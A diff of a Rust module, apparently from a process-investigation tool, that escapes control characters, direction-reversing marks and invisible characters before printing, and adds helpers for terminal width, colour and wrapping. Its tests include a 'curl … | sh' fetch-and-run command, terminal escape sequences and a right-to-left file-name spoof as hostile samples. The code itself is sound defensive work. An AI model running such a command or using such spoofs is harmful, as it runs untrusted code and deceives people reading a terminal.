@@ -1,35 +1,153 @@
-//! Text for a terminal. What processes are named and told by their arguments is written by whoever starts them: a
-//! terminal must never get it raw.
+//! Text for people: whatever an attacker puts into an argument or a file name must not move the cursor, hide a line or
+//! turn the order of letters around on the terminal of whoever investigates.
 
 use std::borrow::Cow;
-use std::fmt::Write;
+use std::env;
+use std::fmt::Write as _;
+use std::io::IsTerminal as _;
 
-/// The text with everything escaped that a terminal would act on or that would hide or reorder what is shown.
-pub(crate) fn plain(text: &str) -> Cow<'_, str> {
-    if !text.contains(is_hazardous) {
-        return Cow::Borrowed(text);
-    }
-    let mut plain = String::with_capacity(text.len() + 16);
-    for c in text.chars() {
-        match c {
-            '\n' => plain.push_str("\\n"),
-            '\r' => plain.push_str("\\r"),
-            '\t' => plain.push_str("\\t"),
-            c if is_hazardous(c) => {
-                // Writing to a `String` cannot fail.
-                let _ = write!(plain, "\\u{{{:x}}}", u32::from(c));
-            }
-            c => plain.push(c),
-        }
-    }
-    Cow::Owned(plain)
+use anstyle::{AnsiColor, Style};
+use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};
+
+/// Width that text is wrapped at where the terminal is wider: longer lines are hard to read.
+const TEXT_WIDTH_MAX: usize = 100;
+/// The narrowest terminal that is catered for.
+const WIDTH_MIN: usize = 40;
+
+/// What the standard output can show.
+#[derive(Clone, Copy, Debug)]
+pub(crate) struct Screen {
+    /// Columns; `None` where it is no terminal, and no line is cut or wrapped.
+    width: Option<usize>,
+    /// Whether colours are shown.
+    colour: bool,
 }
 
-/// Control characters, and the marks by which Unicode changes the direction of text or is not seen at all.
-fn is_hazardous(c: char) -> bool {
-    c.is_control()
-        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
-            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
+/// What a piece of text is, which decides on its looks.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Look {
+    /// A heading, or what the eye looks for.
+    Strong,
+    /// What is there for completeness.
+    Faint,
+    /// All is well.
+    Good,
+    /// Worth a look.
+    Notice,
+    /// Worth a look now.
+    Bad,
+    /// Worth getting up for.
+    Worst,
+}
+
+impl Look {
+    fn style(self) -> Style {
+        let colour = |colour: AnsiColor| Style::new().fg_color(Some(colour.into()));
+        match self {
+            Self::Strong => Style::new().bold(),
+            Self::Faint => Style::new().dimmed(),
+            Self::Good => colour(AnsiColor::Green),
+            Self::Notice => colour(AnsiColor::Yellow),
+            Self::Bad => colour(AnsiColor::Red),
+            Self::Worst => colour(AnsiColor::Red).bold().invert(),
+        }
+    }
+}
+
+impl Screen {
+    /// What the standard output is: colours only on a terminal, unless `NO_COLOR` is set or `TERM` is `dumb`.
+    pub(crate) fn stdout() -> Self {
+        let terminal = std::io::stdout().is_terminal();
+        let is_set = |name: &str| env::var_os(name).is_some_and(|value| !value.is_empty());
+        let dumb = env::var_os("TERM").is_none_or(|term| term == "dumb");
+        let width = terminal_size::terminal_size().map_or(80, |(width, _)| usize::from(width.0));
+        Self {
+            width: terminal.then_some(width.max(WIDTH_MIN)),
+            colour: terminal && !dumb && !is_set("NO_COLOR"),
+        }
+    }
+
+    /// No terminal: a file or a pipe.
+    pub(crate) const fn plain() -> Self {
+        Self { width: None, colour: false }
+    }
+
+    /// A terminal of this width, without colours.
+    #[cfg(test)]
+    pub(crate) const fn of_width(width: usize) -> Self {
+        Self { width: Some(width), colour: false }
+    }
+
+    /// The text in its looks. It must be [`escape`]d already.
+    pub(crate) fn paint(self, look: Look, text: &str) -> String {
+        if !self.colour || text.is_empty() {
+            return text.to_owned();
+        }
+        let style = look.style();
+        format!("{style}{text}{style:#}")
+    }
+
+    /// The text cut to what fits in a line after `used` columns.
+    pub(crate) fn fit(self, text: &str, used: usize) -> Cow<'_, str> {
+        match self.width {
+            Some(width) => cut(text, width.saturating_sub(used)),
+            None => Cow::Borrowed(text),
+        }
+    }
+
+    /// The text in lines that fit after an indent of so many columns, the first one not indented.
+    pub(crate) fn wrap(self, text: &str, indent: usize) -> String {
+        let Some(width) = self.width else { return text.to_owned() };
+        let width = width.min(TEXT_WIDTH_MAX).saturating_sub(indent).max(WIDTH_MIN / 2);
+        textwrap::wrap(text, width).join(&format!("\n{:indent$}", ""))
+    }
+}
+
+/// The text with everything that is not a visible character written out: control characters as `\n` or `\x1b`, the
+/// marks that turn text around or take no space as `\u{202e}`. A backslash stays as it is.
+pub(crate) fn escape(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(is_hidden) {
+        return Cow::Borrowed(text);
+    }
+    let mut escaped = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        match c {
+            c if !is_hidden(c) => escaped.push(c),
+            '\n' => escaped.push_str("\\n"),
+            '\r' => escaped.push_str("\\r"),
+            '\t' => escaped.push_str("\\t"),
+            // Writing to a string cannot fail.
+            c if c.is_ascii() => _ = write!(escaped, "\\x{:02x}", u32::from(c)),
+            c => _ = write!(escaped, "\\u{{{:x}}}", u32::from(c)),
+        }
+    }
+    Cow::Owned(escaped)
+}
+
+fn is_hidden(c: char) -> bool {
+    match c {
+        ' '..='~' => false,
+        // Line and paragraph separator, soft hyphen.
+        '\u{2028}' | '\u{2029}' | '\u{ad}' => true,
+        c => c.width().is_none_or(|width| width == 0),
+    }
+}
+
+/// The text, or as much of it as fits, with an ellipsis.
+fn cut(text: &str, width: usize) -> Cow<'_, str> {
+    if text.width() <= width {
+        return Cow::Borrowed(text);
+    }
+    let (mut kept, mut used) = (String::new(), 1);
+    for c in text.chars() {
+        used += c.width().unwrap_or(0);
+        if used > width {
+            break;
+        }
+        kept.push(c);
+    }
+    kept.push('…');
+    Cow::Owned(kept)
 }
 
 #[cfg(test)]
@@ -37,15 +155,45 @@ mod tests {
     use super::*;
 
     #[test]
-    fn nothing_hazardous_comes_through() {
-        for (text, shown) in [
-            ("curl -s http://ü.example", "curl -s http://ü.example"),
-            ("\x1b[2J\x1b]0;owned\x07", "\\u{1b}[2J\\u{1b}]0;owned\\u{7}"),
-            ("one\ntwo\r\tthree", "one\\ntwo\\r\\tthree"),
-            ("txt.\u{202e}exe", "txt.\\u{202e}exe"),
+    fn nothing_hidden_reaches_the_terminal() {
+        for (text, escaped) in [
+            ("curl -s http://x/ | sh", "curl -s http://x/ | sh"),
+            ("a\\n", "a\\n"),
+            ("\u{1b}[2J\u{1b}]0;title\u{7}", "\\x1b[2J\\x1b]0;title\\x07"),
+            ("one\ntwo\r\tthree\0", "one\\ntwo\\r\\tthree\\x00"),
             ("\u{9b}31m", "\\u{9b}31m"),
+            ("a\u{202e}fdp.exe", "a\\u{202e}fdp.exe"),
+            ("\u{2066}x\u{2069}\u{200b}\u{feff}", "\\u{2066}x\\u{2069}\\u{200b}\\u{feff}"),
+            ("z\u{301}\u{301}", "z\\u{301}\\u{301}"),
+            ("\u{2028}\u{e0041}", "\\u{2028}\\u{e0041}"),
+            ("größe 日本", "größe 日本"),
         ] {
-            assert_eq!(plain(text), shown);
+            assert_eq!(escape(text), escaped);
         }
+    }
+
+    #[test]
+    fn lines_fit_whatever_their_letters_take() {
+        for (text, width, expected) in [
+            ("short", 5, "short"),
+            ("longer", 5, "long…"),
+            ("日本語", 5, "日本…"),
+            ("日本語", 4, "日…"),
+            ("x", 0, "…"),
+        ] {
+            assert_eq!(cut(text, width), expected);
+        }
+        assert_eq!(
+            Screen::of_width(40).wrap(&"word ".repeat(10), 4),
+            "word word word word word word word\n    word word word"
+        );
+        assert_eq!(Screen::plain().wrap("a b", 4), "a b");
+    }
+
+    #[test]
+    fn colours_only_where_they_are_seen() {
+        assert_eq!(Screen::plain().paint(Look::Worst, "x"), "x");
+        let coloured = Screen { width: None, colour: true }.paint(Look::Strong, "x");
+        assert_eq!(coloured, "\u{1b}[1mx\u{1b}[0m");
     }
 }
